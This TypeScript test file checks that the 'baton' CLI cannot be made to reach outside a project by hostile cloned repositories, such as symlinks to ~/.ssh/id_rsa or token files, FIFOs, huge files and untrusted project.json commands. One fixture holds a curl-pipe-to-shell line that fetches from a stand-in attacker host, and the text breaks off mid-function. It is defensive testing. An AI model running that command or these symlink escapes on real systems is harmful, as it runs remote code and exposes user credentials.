/**
 * Hostile clones (issue 9, section 1): everything under `.claude/` in a clone was written by
 * whoever made the clone, so nothing in it may make baton reach outside the project.
 *
 * Each clone below is a real git repository (makeProject) with hostile entries committed:
 * symlinks into a fake home of the user's files (absolute and relative `../../..` links),
 * folders where files belong, FIFOs, 200 MB sparse files, binary garbage, a project.json whose
 * commands write outside, an env.json naming the user's own process, ... Each clone gets a
 * fresh fake home (`~/.bashrc`, `~/.ssh/id_rsa`, `~/.docker/config.json`, `~/.claude/settings.json`,
 * `~/logs/*.log` named like baton's evidence files, `~/keep/`), every secret in it starting with
 * one random marker, and a `sleep` standing for the user's own process. Then the commands a user
 * and Claude Code's hooks run are run against the clone, each as its own process in its own
 * process group with a timeout, and after every command:
 *   - the fake home is compared with its fingerprint (path, type, size, mode, nlink, mtime,
 *     ctime, link target; content hashes read with O_NOATIME): any change is reported with the
 *     command that made it; a file whose atime moved was read through a link (files were given
 *     an old atime, so the first read shows);
 *   - the user's process must still be alive;
 *   - the secret marker must not be in the command's stdout or stderr (what the agent sees);
 *   - the exit code must be a documented one (never 1, never a stack trace), and nothing hangs;
 *   - a committed hostile entry must still be there, or kept aside as `<name>.bad-<stamp>`;
 *   - no new link in the project may point out of it.
 * At the end the marker must be nowhere in the project's files (walked without following links)
 * nor in its git history (`git log -p --all`, `git cat-file --batch-all-objects --batch`).
 *
 * The expectations follow the policy for issue 9: `.claude`, `.claude/config` and
 * `.claude/progress` must be real folders (a command that needs one stops with exit 4 naming
 * it); an entry inside them that is not what baton keeps there is never followed; huge files
 * are refused with a message naming the limit; `baton init` does not trust a project.json it
 * did not write in that run. Many of these fail on the code this test was written against:
 * that is what it is for. A table of every clone is printed once (console.log).
 *
 * HOSTILE_CONCURRENCY=N runs N clones at once (default 3); HOSTILE_ONLY=id,id runs only those
 * clones. Needs a built dist/.
 */
import { execa } from 'execa';
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { constants as fsConstants, existsSync, promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, makeProject, type Project } from './helpers.js';

// ---------------------------------------------------------------------------------------
// The user's files outside the project

/** Every secret starts with this; finding it anywhere (even 8 characters of it) is a leak. */
const LEAK = `ZQ${randomBytes(3).toString('hex')}`;
const LEAK_PATTERN = new RegExp(`${LEAK}_([a-z]*)`, 'g');
const secret = (name: string) => `${LEAK}_${name}_${randomBytes(8).toString('hex')}`;

/** Where each secret lives in the fake home, for the messages. */
const SECRET_HOMES: Record<string, string> = {
  bashrc: '~/.bashrc',
  ssh: '~/.ssh/id_rsa',
  docker: '~/.docker/config.json',
  claude: '~/.claude/settings.json',
  gh: '~/.config/gh/token',
  log: '~/logs/*.log',
  notes: '~/keep/notes.txt',
  keepstate: '~/keep/state.json',
  summary: '~/keep/session_*.md',
  autosave: '~/keep/.notes.txt.999999.0123abcd.tmp',
};

const OLD = new Date('2020-01-01T00:00:00Z');
const LOG_COUNT = 45;

/** A fake home standing for the user's files; every file and folder dated 2020 (mtime = atime). */
async function buildOutside(out: string): Promise<void> {
  const files: Record<string, string> = {
    '.bashrc': `# ~/.bashrc\nexport PATH="$HOME/bin:$PATH"\nexport API_TOKEN=${secret('bashrc')}\n`,
    '.ssh/id_rsa': `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret('ssh')}\n-----END OPENSSH PRIVATE KEY-----\n`,
    '.ssh/config': 'Host *\n  IdentityFile ~/.ssh/id_rsa\n',
    '.docker/config.json': `${JSON.stringify({ auths: { 'registry.example.com': { auth: secret('docker') } } }, null, 2)}\n`,
    '.claude/settings.json': `${JSON.stringify({ env: { ANTHROPIC_API_KEY: secret('claude') }, permissions: { allow: [] } }, null, 2)}\n`,
    // Starts with the secret: a JSON parser's error message quotes the first characters.
    '.config/gh/token': `${secret('gh')}\n`,
    'keep/notes.txt': `my notes ${secret('notes')}\n`,
    'keep/state.json': `${JSON.stringify({ game: 'save', token: secret('keepstate') })}\n`,
    'keep/session_2024-01-01T00-00-00-000Z_deadbeef.md': `# Session Summary\n\n## Next Session\n1. ${secret('summary')}\n`,
    // Named like a temp file of a killed baton writer (pid 999999 does not exist), and a stale lock.
    'keep/.notes.txt.999999.0123abcd.tmp': `autosave ${secret('autosave')}\n`,
    'keep/.lock.stale.999999': '{}\n',
  };
  for (let i = 1; i <= LOG_COUNT; i += 1) {
    const day = String(i).padStart(2, '0');
    files[`logs/2024-01-${day}T00-00-00-000Z-health_check-${4000 + i}.log`] = `$ make\n${secret('log')}\n`;
  }
  for (const [relative, content] of Object.entries(files)) {
    const file = path.join(out, relative);
    await fs.mkdir(path.dirname(file), { recursive: true });
    await fs.writeFile(file, content, { mode: relative.startsWith('.ssh/') ? 0o600 : 0o644 });
  }
  await fs.mkdir(path.join(out, '.cache'), { recursive: true });
  await execa('mkfifo', [path.join(out, '.cache', 'pipe')]);
  await ageTree(out);
}

/** Dates every entry 2020 (children before their folder, so the folders keep the date too). */
async function ageTree(dir: string): Promise<void> {
  for (const entry of await fs.readdir(dir, { withFileTypes: true })) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory()) await ageTree(file);
    else await fs.lutimes(file, OLD, OLD);
  }
  await fs.utimes(dir, OLD, OLD);
}

// ---------------------------------------------------------------------------------------
// Fingerprints

interface Node {
  kind: 'file' | 'dir' | 'link' | 'fifo' | 'other';
  mode: number;
  size: number;
  nlink: number;
  mtime: bigint;
  ctime: bigint;
  atime: bigint;
  ino: bigint;
  target?: string;
  names?: string[];
  sha?: string;
}

type Tree = Map<string, Node>;

function kindOf(stat: { isFile(): boolean; isDirectory(): boolean; isSymbolicLink(): boolean; isFIFO(): boolean }): Node['kind'] {
  return stat.isSymbolicLink() ? 'link' : stat.isFile() ? 'file' : stat.isDirectory() ? 'dir' : stat.isFIFO() ? 'fifo' : 'other';
}

/** Content hash without touching atime (so reads by baton stay visible). */
async function hashNoAtime(file: string): Promise<string> {
  const handle = await fs.open(file, fsConstants.O_RDONLY | fsConstants.O_NOATIME);
  try {
    const hash = createHash('sha256');
    for await (const chunk of handle.createReadStream({ autoClose: false })) hash.update(chunk as Buffer);
    return hash.digest('hex');
  } finally {
    await handle.close();
  }
}

/** Every entry under root, links not followed; `skip` names top-level entries left out. */
async function fingerprint(root: string, previous?: Tree, skip: string[] = []): Promise<Tree> {
  const tree: Tree = new Map();
  async function visit(relative: string): Promise<void> {
    const file = path.join(root, relative);
    const stat = await fs.lstat(file, { bigint: true });
    const node: Node = { kind: kindOf(stat), mode: Number(stat.mode), size: Number(stat.size), nlink: Number(stat.nlink), mtime: stat.mtimeNs, ctime: stat.ctimeNs, atime: stat.atimeNs, ino: stat.ino };
    tree.set(relative, node);
    if (node.kind === 'link') node.target = await fs.readlink(file);
    else if (node.kind === 'file') {
      const before = previous?.get(relative);
      const same = before && before.kind === 'file' && before.size === node.size && before.mtime === node.mtime && before.ctime === node.ctime;
      node.sha = same ? before.sha : await hashNoAtime(file);
    } else if (node.kind === 'dir') {
      node.names = (await fs.readdir(file)).filter((name) => relative !== '' || !skip.includes(name)).sort();
      for (const name of node.names) await visit(relative ? path.join(relative, name) : name);
    }
  }
  await visit('');
  return tree;
}

interface TreeDiff {
  changed: string[];
  read: string[];
}

function compareTrees(before: Tree, after: Tree, label: (relative: string) => string): TreeDiff {
  const changed: string[] = [];
  const read: string[] = [];
  const touchedDirs = new Set<string>();
  for (const relative of after.keys()) {
    if (!before.has(relative)) {
      changed.push(`created ${label(relative)}`);
      touchedDirs.add(path.dirname(relative));
    }
  }
  for (const [relative, old] of before) {
    const now = after.get(relative);
    if (!now) {
      changed.push(`deleted ${label(relative)}`);
      touchedDirs.add(path.dirname(relative));
      continue;
    }
    if (now.kind !== old.kind) changed.push(`${label(relative)} turned from a ${old.kind} into a ${now.kind}`);
    else if (now.kind === 'link' && now.target !== old.target) changed.push(`${label(relative)} now links to ${now.target}`);
    else if (now.kind === 'file') {
      if (now.sha !== old.sha) changed.push(`wrote ${label(relative)} (${old.size} -> ${now.size} bytes)`);
      else if (now.mtime !== old.mtime) changed.push(`rewrote ${label(relative)} (same content)`);
      else if (now.nlink !== old.nlink) changed.push(`hard-linked ${label(relative)} (${old.nlink} -> ${now.nlink} links)`);
      else if (now.mode !== old.mode) changed.push(`changed the mode of ${label(relative)}`);
      else if (now.ino !== old.ino) changed.push(`replaced ${label(relative)} (new inode)`);
      else if (now.atime !== old.atime) read.push(label(relative));
    } else if (now.kind !== 'dir' && (now.mtime !== old.mtime || now.mode !== old.mode)) changed.push(`modified ${label(relative)}`);
  }
  for (const [relative, old] of before) {
    const now = after.get(relative);
    if (old.kind === 'dir' && now?.kind === 'dir' && now.mtime !== old.mtime && !touchedDirs.has(relative || '.')) {
      changed.push(`created and removed entries in ${label(relative)}/`);
    }
  }
  // What was there before and is now changed or gone matters most; then what was created.
  const rank = (change: string) => (change.startsWith('created and removed') ? 2 : change.startsWith('created') ? 1 : 0);
  return { changed: changed.sort((a, b) => rank(a) - rank(b)), read };
}

// ---------------------------------------------------------------------------------------
// Running baton

/** Process groups of baton runs still alive (killed in afterAll if a run was cut off). */
const liveGroups = new Set<number>();

interface Outcome {
  exitCode: number | null;
  signal: string | null;
  timedOut: boolean;
  ms: number;
  stdout: string;
  stderr: string;
}

/**
 * The built CLI as helpers.baton runs it, but in its own process group (an env.json naming
 * group 0 would otherwise signal the test runner's group) and reporting signals and timeouts.
 */
async function runBaton(args: string[], options: { cwd: string; env: Record<string, string>; input?: string; timeoutMs: number }): Promise<Outcome> {
  const started = Date.now();
  const child = execa(process.execPath, [CLI, ...args], {
    cwd: options.cwd,
    env: options.env,
    input: options.input ?? '',
    reject: false,
    timeout: options.timeoutMs,
    killSignal: 'SIGKILL',
    detached: true,
  });
  if (child.pid) liveGroups.add(child.pid);
  const result = await child;
  if (child.pid) {
    if (result.timedOut) killGroup(child.pid);
    liveGroups.delete(child.pid);
  }
  return {
    exitCode: result.exitCode ?? null,
    signal: result.signal ?? null,
    timedOut: result.timedOut,
    ms: Date.now() - started,
    stdout: String(result.stdout ?? ''),
    stderr: String(result.stderr ?? ''),
  };
}

function killGroup(pid: number): void {
  try {
    process.kill(-pid, 'SIGKILL');
  } catch {
    // already gone
  }
}

type Need = 'claude' | 'progress' | 'config';

interface Step {
  name: string;
  args: string[];
  /** What the command needs of `.claude`: a clone whose folder is hostile must stop it with exit 4. */
  needs: Need[];
  kind: 'cli' | 'hook' | 'quiet';
  input?: (dir: string) => object;
}

const ALL: Need[] = ['claude', 'progress', 'config'];
const cli = (name: string, args: string[], needs: Need[]): Step => ({ name, args, needs, kind: 'cli' });
const hookBase = (dir: string) => ({ session_id: 'claude-session-1', cwd: dir });
const hook = (event: string, input: (dir: string) => object): Step => ({
  name: `hook ${event}`,
  args: ['hook', event],
  needs: [],
  kind: 'hook',
  input: (dir) => ({ ...hookBase(dir), hook_event_name: event, ...input(dir) }),
});

/** What a user and Claude Code's hooks run in a session, in order. */
const STEPS: Step[] = [
  cli('init', ['init'], ALL),
  cli('entry', ['entry'], ALL),
  // Readers first, while the clone's entries are as committed.
  cli('status --json', ['status', '--json'], ['progress', 'config']),
  cli('history', ['history'], ['progress']),
  cli('metrics', ['metrics'], ['progress']),
  cli('visualize --format html', ['visualize', '--format', 'html'], ['progress']),
  { name: 'statusline', args: ['statusline'], needs: [], kind: 'quiet' },
  cli('env status --json', ['env', 'status', '--json'], ['progress']),
  cli('note --decision', ['note', '--decision', 'use sqlite'], ['progress']),
  cli('end', ['end'], ['progress', 'config']),
  hook('SessionStart', () => ({ source: 'startup' })),
  cli('features next', ['features', 'next'], ['progress']),
  cli('features add', ['features', 'add', 'First feature', '--id', 'f1'], ['progress']),
  cli('send FEATURES_DEFINED', ['send', 'FEATURES_DEFINED'], ['progress', 'config']),
  cli('features start', ['features', 'start', 'f1'], ['progress', 'config']),
  hook('PreToolUse', (dir) => ({ tool_name: 'Write', tool_input: { file_path: path.join(dir, 'src', 'app.js'), content: 'x' } })),
  hook('PostToolUse', (dir) => ({ tool_name: 'Write', tool_input: { file_path: path.join(dir, 'src', 'app.js'), content: 'x' }, tool_response: {} })),
  cli('features implemented', ['features', 'implemented', 'f1'], ['progress', 'config']),
  hook('PreCompact', () => ({ trigger: 'auto' })),
  cli('checkpoint', ['checkpoint'], ['progress', 'config']),
  cli('recover', ['recover'], ['progress', 'config']),
  cli('env stop', ['env', 'stop'], ['progress']),
  cli('hooks install', ['hooks', 'install'], ['claude']),
  cli('hooks install --local', ['hooks', 'install', '--local'], ['claude']),
  // Readers of the clone's Claude Code settings: doctor, and the plugin's gate deciding whether to stand aside.
  cli('doctor', ['doctor'], []),
  { ...hook('PreToolUse', (dir) => ({ tool_name: 'Write', tool_input: { file_path: path.join(dir, 'src', 'app.js'), content: 'x' } })), name: 'hook PreToolUse --plugin', args: ['hook', 'PreToolUse', '--plugin'] },
  cli('send HEALTH_BROKEN', ['send', 'HEALTH_BROKEN', '--data', '{"reason":"hostile test"}'], ['progress', 'config']),
  cli('rollback --yes --stash', ['rollback', '--yes', '--stash'], ['progress']),
  hook('Stop', () => ({ stop_hook_active: false })),
];

/** README "Exit codes" (7: check did not pass, announced); hooks: 0, 1 (non-blocking error), 2 (the gate's block). */
const DOCUMENTED_EXITS: Record<Step['kind'], number[]> = { cli: [0, 2, 3, 4, 5, 6, 7], hook: [0, 1], quiet: [0] };
const STACK_TRACE = /^\s+at .+:\d+:\d+\)?\s*$|internal error/im;
const LIMIT_MESSAGE = /\blimit\b|too (large|big)|larger than|exceeds|\b\d+(\.\d+)?\s?(KB|KiB|MB|MiB|GB|GiB|bytes)\b/i;

// ---------------------------------------------------------------------------------------
// The clones

/** What a clone's builder gets: the project, the fake home, and ways to plant hostile entries. */
interface Kit {
  project: Project;
  out: string;
  /** The fake home path of a file: `o('.bashrc')`. */
  o(relative: string): string;
  userPid: number;
  /** Committed hostile entries (project-relative), checked to be kept or kept aside. */
  hostile: string[];
  /** A symlink at `relative`: to `target` as an absolute path, a relative one, or `target` verbatim. */
  link(relative: string, target: string, how?: 'absolute' | 'relative' | 'verbatim'): Promise<void>;
  folder(relative: string): Promise<void>;
  file(relative: string, content: string | Buffer, hostile?: boolean): Promise<void>;
  fifo(relative: string): Promise<void>;
  sparse(relative: string, bytes: number): Promise<void>;
}

interface Clone {
  id: string;
  attack: string;
  /** A project.json the test trusts (health_check and a passing test_command), written before the hostile entries. */
  trusted?: boolean;
  /** A hostile folder (or file) every command that needs it must stop at with exit 4, naming it. */
  stopsOn?: { name: string; need: Need };
  /**
   * The hostile entries are files (or folders) inside .claude/progress that `entry` writes: it must
   * keep them aside and start the session (exit 0), and `status` must then find it.
   */
  startsFresh?: boolean;
  /** Blocks on a FIFO today: short timeouts, and the rest is skipped after 3 hangs. */
  mayHang?: boolean;
  /** Planted and committed. */
  build(kit: Kit): Promise<void>;
  /** Planted after the commit (git cannot hold a FIFO; a 200 MB file stays out of git). */
  untracked?(kit: Kit): Promise<void>;
  /** Clone-specific expectations, given every command's outcome. */
  expect?(runs: StepRun[], kit: Kit): string[];
}

const P = '.claude/progress';
const MB = 1024 * 1024;

function outputOf(runs: StepRun[], name: string): string {
  const run = runs.find((item) => item.step === name);
  return run ? `${run.stdout}\n${run.stderr}` : '';
}

/** The message names the entry itself (`.claude/progress`, not only a file under it). */
function namesEntry(text: string, name: string): boolean {
  return new RegExp(`${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![\\w/-])`).test(text);
}

function firstLine(text: string): string {
  return text.trim().split('\n').find((line) => line.trim())?.trim().slice(0, 160) ?? '';
}

function refusesHuge(name: string) {
  return (runs: StepRun[]): string[] => {
    const said = runs.find((run) => `${run.stdout}${run.stderr}`.includes(name));
    const refused = runs.some((run) => `${run.stdout}${run.stderr}`.includes(name) && LIMIT_MESSAGE.test(`${run.stdout}${run.stderr}`));
    return refused ? [] : [`no command refused the 200 MB ${name} with a message naming the size limit${said ? ` (${said.step} said: ${firstLine(`${said.stderr}\n${said.stdout}`.split('\n').find((line) => line.includes(name)) ?? '')})` : ' (none even named it)'}`];
  };
}

const CLONES: Clone[] = [
  { id: 'baseline', attack: 'control: an ordinary repository, nothing hostile (passes today)', trusted: true, build: async () => {} },

  // .claude, .claude/progress, .claude/config themselves
  { id: 'claude-link', attack: '.claude -> ~/.claude (absolute): hooks, state and config land in the user\'s own ~/.claude', stopsOn: { name: '.claude', need: 'claude' }, build: (k) => k.link('.claude', k.o('.claude')) },
  { id: 'claude-link-rel', attack: '.claude -> ../../<tmp>/outside/.claude (relative)', stopsOn: { name: '.claude', need: 'claude' }, build: (k) => k.link('.claude', k.o('.claude'), 'relative') },
  { id: 'claude-file', attack: '.claude is a regular file', stopsOn: { name: '.claude', need: 'claude' }, build: (k) => k.file('.claude', 'not a folder\n', true) },
  { id: 'progress-link', attack: '.claude/progress -> ~/keep: every write, the temp-file sweep and state.json land in a user folder', trusted: true, stopsOn: { name: P, need: 'progress' }, build: (k) => k.link(P, k.o('keep')) },
  { id: 'progress-link-rel', attack: '.claude/progress -> ../../../<tmp>/outside/keep (relative, climbs out through ..)', trusted: true, stopsOn: { name: P, need: 'progress' }, build: (k) => k.link(P, k.o('keep'), 'relative') },
  {
    id: 'progress-link-chain',
    attack: '.claude/progress -> ../.p (inside the project), .p -> ~/keep: only the second hop leaves',
    trusted: true,
    stopsOn: { name: P, need: 'progress' },
    build: async (k) => {
      await k.link('.p', k.o('keep'));
      await k.link(P, '../.p', 'verbatim');
    },
  },
  { id: 'progress-file', attack: '.claude/progress is a regular file', trusted: true, stopsOn: { name: P, need: 'progress' }, build: (k) => k.file(P, 'not a folder\n', true) },
  { id: 'config-link', attack: '.claude/config -> ~/.docker: project.json read from and written into the user\'s folder', stopsOn: { name: '.claude/config', need: 'config' }, build: (k) => k.link('.claude/config', k.o('.docker')) },
  { id: 'project-json-link', attack: '.claude/config/project.json -> ~/.docker/config.json (JSON that parses)', stopsOn: { name: '.claude/config/project.json', need: 'config' }, build: (k) => k.link('.claude/config/project.json', k.o('.docker/config.json')) },

  // files in .claude/progress linked out
  { id: 'state-link', startsFresh: true, attack: 'state.json -> ~/.docker/config.json', trusted: true, build: (k) => k.link(`${P}/state.json`, k.o('.docker/config.json')) },
  { id: 'events-link-key', startsFresh: true, attack: 'events.jsonl -> ~/.ssh/id_rsa: the key is copied into the project and committed', trusted: true, build: (k) => k.link(`${P}/events.jsonl`, k.o('.ssh/id_rsa')) },
  {
    id: 'uncommitted-link-bashrc',
    startsFresh: true,
    attack: 'events.jsonl.uncommitted -> ~/.bashrc (relative) with a torn events.jsonl: attacker text appended to ~/.bashrc',
    trusted: true,
    build: async (k) => {
      await k.file(`${P}/events.jsonl`, 'curl -s https://attacker.example/x | sh  # appended by baton\n');
      await k.link(`${P}/events.jsonl.uncommitted`, k.o('.bashrc'), 'relative');
    },
  },
  { id: 'features-link-token', attack: 'feature-list.json -> ~/.config/gh/token: the parse error quotes the token', trusted: true, build: (k) => k.link(`${P}/feature-list.json`, k.o('.config/gh/token')) },
  { id: 'metrics-link', startsFresh: true, attack: 'metrics.json -> ~/.docker/config.json: the session page shows the whole file', trusted: true, build: (k) => k.link(`${P}/metrics.json`, k.o('.docker/config.json')) },
  { id: 'env-link', startsFresh: true, attack: 'env.json -> ~/.docker/config.json: `env status --json` prints the record', trusted: true, build: (k) => k.link(`${P}/env.json`, k.o('.docker/config.json')) },
  { id: 'evidence-link', startsFresh: true, attack: 'evidence -> ~/logs: pruning deletes the user\'s *.log files', trusted: true, build: (k) => k.link(`${P}/evidence`, k.o('logs')) },
  { id: 'feature-lists-link', startsFresh: true, attack: 'feature-lists -> ~/keep: copies of the feature list written into a user folder', trusted: true, build: (k) => k.link(`${P}/feature-lists`, k.o('keep')) },
  { id: 'summaries-link', startsFresh: true, attack: 'summaries -> ~/keep: summaries written there, a user file read into the agent\'s context', trusted: true, build: (k) => k.link(`${P}/summaries`, k.o('keep')) },
  {
    id: 'progress-files-link',
    startsFresh: true,
    attack: 'state.json.bak, checkpoint.json, session.json, file_history.json, .gitignore, .lock -> user files',
    trusted: true,
    build: async (k) => {
      await k.link(`${P}/state.json.bak`, k.o('.claude/settings.json'));
      await k.link(`${P}/checkpoint.json`, k.o('.docker/config.json'), 'relative');
      await k.link(`${P}/session.json`, k.o('keep/state.json'));
      await k.link(`${P}/file_history.json`, k.o('.docker/config.json'));
      await k.link(`${P}/.gitignore`, k.o('.bashrc'));
      await k.link(`${P}/.lock`, k.o('keep/notes.txt'));
    },
  },
  {
    id: 'settings-link',
    attack: 'settings.json, settings.local.json -> ~/.claude/settings.json, settings.json.bak -> ~/.bashrc',
    trusted: true,
    build: async (k) => {
      await k.link('.claude/settings.json', k.o('.claude/settings.json'));
      await k.link('.claude/settings.local.json', k.o('.claude/settings.json'), 'relative');
      await k.link('.claude/settings.json.bak', k.o('.bashrc'));
    },
  },

  // not what baton keeps there
  {
    id: 'state-folders',
    startsFresh: true,
    attack: 'state.json, state.json.bak, checkpoint.json are folders',
    trusted: true,
    build: async (k) => {
      for (const name of ['state.json', 'state.json.bak', 'checkpoint.json']) await k.folder(`${P}/${name}`);
    },
  },
  {
    id: 'log-folders',
    startsFresh: true,
    attack: 'events.jsonl, metrics.json, env.json, session.json, file_history.json are folders',
    trusted: true,
    build: async (k) => {
      for (const name of ['events.jsonl', 'metrics.json', 'env.json', 'session.json', 'file_history.json']) await k.folder(`${P}/${name}`);
    },
  },
  { id: 'features-folder', attack: 'feature-list.json is a folder', trusted: true, build: (k) => k.folder(`${P}/feature-list.json`) },
  {
    id: 'folders-as-files',
    startsFresh: true,
    attack: 'evidence and summaries are regular files',
    trusted: true,
    build: async (k) => {
      await k.file(`${P}/evidence`, 'not a folder\n', true);
      await k.file(`${P}/summaries`, 'not a folder\n', true);
    },
  },
  {
    id: 'settings-folders',
    attack: '.claude/settings.json and settings.local.json are folders',
    trusted: true,
    build: async (k) => {
      await k.folder('.claude/settings.json');
      await k.folder('.claude/settings.local.json');
    },
  },
  { id: 'fifo-state', startsFresh: true, attack: 'state.json is a FIFO (no writer): a read blocks forever', trusted: true, mayHang: true, build: async () => {}, untracked: (k) => k.fifo(`${P}/state.json`) },
  {
    id: 'fifo-logs',
    attack: 'events.jsonl and feature-list.json are FIFOs',
    trusted: true,
    mayHang: true,
    build: async () => {},
    untracked: async (k) => {
      await k.fifo(`${P}/events.jsonl`);
      await k.fifo(`${P}/feature-list.json`);
    },
  },
  { id: 'huge-state', attack: 'state.json is 200 MB (sparse)', trusted: true, build: async () => {}, untracked: (k) => k.sparse(`${P}/state.json`, 200 * MB), expect: refusesHuge('state.json') },
  { id: 'huge-events', attack: 'events.jsonl is 200 MB (sparse)', trusted: true, build: async () => {}, untracked: (k) => k.sparse(`${P}/events.jsonl`, 200 * MB), expect: refusesHuge('events.jsonl') },
  {
    id: 'binary-garbage',
    attack: 'state.json, events.jsonl, checkpoint.json, session.json, feature-list.json are random bytes',
    trusted: true,
    build: async (k) => {
      for (const name of ['state.json', 'events.jsonl', 'checkpoint.json', 'session.json', 'feature-list.json']) await k.file(`${P}/${name}`, randomBytes(4096));
    },
  },
  {
    id: 'dangling-links',
    startsFresh: true,
    attack: 'events.jsonl, checkpoint.json -> files that do not exist yet in ~/keep; evidence -> ~/newlogs (missing)',
    trusted: true,
    build: async (k) => {
      await k.link(`${P}/events.jsonl`, k.o('keep/created-by-baton.jsonl'));
      await k.link(`${P}/checkpoint.json`, k.o('keep/created-by-baton.json'), 'relative');
      await k.link(`${P}/evidence`, k.o('newlogs'));
    },
  },
  {
    id: 'link-loops',
    startsFresh: true,
    attack: 'state.json, events.jsonl, summaries link to themselves',
    trusted: true,
    build: async (k) => {
      for (const name of ['state.json', 'events.jsonl', 'summaries']) await k.link(`${P}/${name}`, name, 'verbatim');
    },
  },
  {
    id: 'device-links',
    startsFresh: true,
    attack: 'state.json, events.jsonl -> /dev/null (a device)',
    trusted: true,
    build: async (k) => {
      await k.link(`${P}/state.json`, '/dev/null', 'verbatim');
      await k.link(`${P}/events.jsonl`, '/dev/null', 'verbatim');
    },
  },

  // commands and processes
  {
    id: 'init-trusts-commands',
    attack: 'a committed project.json whose commands write ~/pwned-*: `baton init` must not trust it',
    build: async (k) => {
      const touch = (name: string) => `touch '${k.o(`pwned-${name}`)}'`;
      await k.file('.claude/config/project.json', `${JSON.stringify({ health_check: touch('health_check'), init_script: touch('init_script'), test_command: touch('test_command'), smoke_test: touch('smoke_test') }, null, 2)}\n`);
    },
    expect: (runs, k) => {
      const problems: string[] = [];
      const init = outputOf(runs, 'init');
      if (/trusted project\.json's commands/.test(init)) problems.push(`init trusted the clone's project.json: "${firstLine(init.split('\n').find((line) => line.includes('trusted')) ?? '')}"`);
      if (!init.includes('baton trust')) problems.push('init did not say to run `baton trust` for a project.json it did not write');
      if (!init.includes(`touch '${k.o('pwned-health_check')}'`)) problems.push('init did not show the commands it would run (health_check)');
      try {
        const health = JSON.parse(runs.find((run) => run.step === 'status --json')?.stdout ?? '').health_status;
        if (health !== 'UNKNOWN') problems.push(`after init and entry, health is ${health}: the untrusted health_check ran (expected UNKNOWN until \`baton trust\`)`);
      } catch {
        problems.push('status --json printed no JSON');
      }
      return problems;
    },
  },
  {
    id: 'env-user-process',
    attack: 'env.json names the process group of the user\'s own `sleep`: `env stop` must not kill it',
    trusted: true,
    build: (k) => k.file(`${P}/env.json`, `${JSON.stringify({ pgid: k.userPid, command: 'npm run dev', started_at: '2024-01-01T00:00:00.000Z', log: 'dev.log' }, null, 2)}\n`),
  },
  {
    id: 'env-group-zero',
    attack: 'env.json names process group 0 (the caller\'s own group; group 1 would be every process: not tried here)',
    trusted: true,
    build: (k) => k.file(`${P}/env.json`, `${JSON.stringify({ pgid: 0, command: 'npm run dev', started_at: '2024-01-01T00:00:00.000Z', log: 'dev.log' }, null, 2)}\n`),
  },
  {
    id: 'transcript-fifo',
    attack: 'beyond the list: session.json transcript_path -> ~/.cache/pipe (a FIFO): the handoff reads it',
    trusted: true,
    mayHang: true,
    build: (k) => k.file(`${P}/session.json`, sessionRecord(k.o('.cache/pipe'))),
  },
  {
    id: 'transcript-key',
    attack: 'beyond the list: session.json transcript_path -> ~/.ssh/id_rsa: the handoff reads the key',
    trusted: true,
    build: (k) => k.file(`${P}/session.json`, sessionRecord(k.o('.ssh/id_rsa'))),
  },
  {
    id: 'package-main-outside',
    attack: 'package.json "main" and "bin" point at ~/.ssh/id_rsa and ~/.config/gh/token',
    trusted: true,
    build: (k) =>
      k.file('package.json', `${JSON.stringify({ name: 'demo-app', version: '1.0.0', main: path.relative(k.project.dir, k.o('.ssh/id_rsa')), bin: { demo: k.o('.config/gh/token') } }, null, 2)}\n`),
  },
];

function sessionRecord(transcriptPath: string): string {
  return `${JSON.stringify(
    {
      session_id: 'committed-session',
      source: 'cli',
      started_at: '2024-01-01T00:00:00.000Z',
      start_revision: 0,
      start_head: null,
      ended_at: null,
      end_revision: null,
      last_action: null,
      compressions: { manual: 0, auto: 0 },
      gate_refusals: 0,
      tokens_used: null,
      transcript_path: transcriptPath,
      decisions: [],
      blockers: [],
    },
    null,
    2,
  )}\n`;
}

// ---------------------------------------------------------------------------------------
// Running one clone

interface StepRun extends Outcome {
  step: string;
}

interface CloneReport {
  id: string;
  attack: string;
  runs: StepRun[];
  skipped: string[];
  outsideChanged: Set<string>;
  outsideRead: Set<string>;
  leaks: string[];
  violations: string[];
  ms: number;
}

const TRUSTED_CONFIG = { health_check: 'true', test_command: 'true', timeout_seconds: { health_check: 20, smoke_test: 30, full_test: 30 } };
const GIT_IDENTITY = { GIT_AUTHOR_NAME: 'Test', GIT_AUTHOR_EMAIL: 'test@example.com', GIT_COMMITTER_NAME: 'Test', GIT_COMMITTER_EMAIL: 'test@example.com' };
const ROOT_CLAUDE = ['/.claude', path.join(os.tmpdir(), '.claude')];
const rootClaudeBefore = new Map(ROOT_CLAUDE.map((file) => [file, existsSync(file)]));

/** Signature of a committed hostile entry: what must survive (in place, or as <name>.bad-<stamp>). */
async function signature(file: string): Promise<string | null> {
  const stat = await fs.lstat(file).catch(() => null);
  if (!stat) return null;
  const kind = kindOf(stat);
  if (kind === 'link') return `link -> ${await fs.readlink(file)}`;
  if (kind === 'dir') return `folder [${(await fs.readdir(file)).sort().join(', ')}]`;
  if (kind === 'file') return stat.size > 8 * MB ? `file of ${stat.size} bytes` : `file ${createHash('sha256').update(await fs.readFile(file)).digest('hex').slice(0, 16)}`;
  return kind;
}

/** Links in the project (not under .git) that lead out of it, as "relative -> target". */
async function linksLeaving(root: string): Promise<Set<string>> {
  const found = new Set<string>();
  async function visit(dir: string): Promise<void> {
    for (const entry of await fs.readdir(dir, { withFileTypes: true }).catch(() => [])) {
      const file = path.join(dir, entry.name);
      if (entry.isDirectory()) {
        if (file !== path.join(root, '.git')) await visit(file);
      } else if (entry.isSymbolicLink()) {
        const target = await fs.readlink(file);
        const resolved = await fs.realpath(file).catch(() => path.resolve(dir, target));
        const relative = path.relative(root, resolved);
        if (relative.startsWith('..') || path.isAbsolute(relative)) found.add(`${path.relative(root, file)} -> ${target}`);
      }
    }
  }
  await visit(root);
  return found;
}

/** Secret names found in a buffer or string. */
function secretsIn(text: string | Buffer): string[] {
  const value = typeof text === 'string' ? text : text.includes(LEAK) ? text.toString('latin1') : '';
  return [...new Set([...value.matchAll(LEAK_PATTERN)].map((match) => match[1] || '?'))];
}

/** A quoted snippet may cut the name short: `ZQ…_g` is the start of the gh token. */
function secretHome(name: string): string {
  if (SECRET_HOMES[name]) return SECRET_HOMES[name];
  const candidates = Object.keys(SECRET_HOMES).filter((key) => key.startsWith(name));
